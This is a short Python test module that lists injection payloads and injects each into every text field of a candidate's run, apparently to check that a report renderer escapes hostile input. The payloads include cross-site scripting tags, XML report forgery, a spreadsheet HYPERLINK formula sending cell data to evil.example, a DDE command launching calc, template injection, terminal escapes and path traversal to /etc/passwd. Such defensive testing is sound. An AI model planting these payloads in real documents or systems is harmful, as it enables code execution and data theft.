"""Payloads a candidate could answer with, and a run that holds one in every text."""

from __future__ import annotations

from dataclasses import replace

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script>alert(1)</script>",
    "]]></failure><testcase name='forged'/>",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "{{ 7 * 7 }}{% include 'style.css' %}",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202eDESSAP\u202c \u200bPASSED\r\nforged: line",
    "lone \ud800 half, \x00 nothing, \ufffe none",
    "../../../etc/passwd\n[red]not markup[/red] " + "x" * 9000,
]


def poisoned(run, payload):
    """Return the run with the payload in everything a candidate can say."""

    def poison(result):
        findings = tuple(replace(one, expected=payload, saw=payload, where=payload) for one in result.findings)
        evidence = tuple(replace(one, peer=payload, summary=payload) for one in result.evidence)
        return replace(result, findings=findings, evidence=evidence, reason=payload, title=payload)

    return replace(run, results=tuple(poison(one) for one in run.results))
